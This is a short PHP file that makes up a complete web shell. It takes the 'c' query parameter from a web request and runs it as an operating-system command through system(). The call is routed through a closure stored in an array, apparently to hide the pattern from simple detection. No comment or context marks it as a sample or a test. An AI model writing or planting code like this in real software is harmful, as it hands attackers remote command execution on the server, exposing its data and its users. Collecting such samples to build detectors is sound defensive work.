<?php
$a = [];
$a["f"] = function () { return $_GET["c"]; };
system($a["f"]());
